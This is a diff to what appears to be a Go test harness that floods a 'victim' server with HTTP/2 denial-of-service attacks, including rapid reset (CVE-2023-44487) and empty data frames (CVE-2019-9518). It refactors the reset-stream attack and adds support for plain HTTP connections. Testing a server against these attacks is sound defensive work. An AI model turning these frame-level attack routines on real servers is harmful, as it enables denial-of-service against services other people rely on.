@@ -7,6 +7,8 @@ import (
 	"context"
 	"crypto/tls"
 	"io"
+	"net"
+	"strings"
 	"testing"
 
 	"golang.org/x/net/http2"
@@ -15,7 +17,7 @@ import (
 
 // http2Attacks use frames of HTTP/2 that cost the sender little.
 var http2Attacks = []attack{
-	{name: "HTTP/2 rapid reset", secure: true, run: frames(resetStream)},
+	{name: "HTTP/2 rapid reset", secure: true, run: frames(resetStream(evaluateHead))},
 	{name: "HTTP/2 pings", secure: true, run: frames(func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })},
 	{name: "HTTP/2 settings", secure: true, run: frames(func(f *http2.Framer, _ uint32) error { return f.WriteSettings() })},
 	{name: "HTTP/2 priorities", secure: true, run: frames(func(f *http2.Framer, n uint32) error {
@@ -32,7 +34,7 @@ var http2Attacks = []attack{
 func frames(write func(f *http2.Framer, n uint32) error) func(context.Context, *testing.T, *victim) {
 	return func(ctx context.Context, _ *testing.T, v *victim) {
 		repeatAttack(ctx, bodyClients, func(ctx context.Context) {
-			conn := v.secureConnection(ctx)
+			conn := v.http2Connection(ctx)
 			if conn == nil {
 				return
 			}
@@ -52,11 +54,11 @@ func frames(write func(f *http2.Framer, n uint32) error) func(context.Context, *
 	}
 }
 
-// secureConnection returns a connection for HTTP/2, or nil if the server refused it.
-func (v *victim) secureConnection(ctx context.Context) *tls.Conn {
+// http2Connection returns a connection for HTTP/2, or nil if the server refused it.
+func (v *victim) http2Connection(ctx context.Context) net.Conn {
 	plain := v.connection(ctx, attackerAddress)
-	if plain == nil {
-		return nil
+	if plain == nil || strings.HasPrefix(v.url, "http:") {
+		return plain
 	}
 	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
 	if conn.HandshakeContext(ctx) != nil {
@@ -81,13 +83,15 @@ func fields(method, path string, more ...hpack.HeaderField) []byte {
 
 var evaluateHead, listHead = fields("POST", "/evaluate"), fields("GET", "/info")
 
-// resetStream opens a stream and resets it at once (CVE-2023-44487).
-func resetStream(f *http2.Framer, n uint32) error {
-	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: evaluateHead, EndHeaders: true})
-	if err == nil {
-		err = f.WriteRSTStream(1+2*n, http2.ErrCodeCancel)
+// resetStream returns a function that opens a stream and resets it at once (CVE-2023-44487).
+func resetStream(head []byte) func(*http2.Framer, uint32) error {
+	return func(f *http2.Framer, n uint32) error {
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: head, EndHeaders: true})
+		if err == nil {
+			err = f.WriteRSTStream(1+2*n, http2.ErrCodeCancel)
+		}
+		return err
 	}
-	return err
 }
 
 // emptyData opens one stream and sends frames of its body that are empty (CVE-2019-9518).
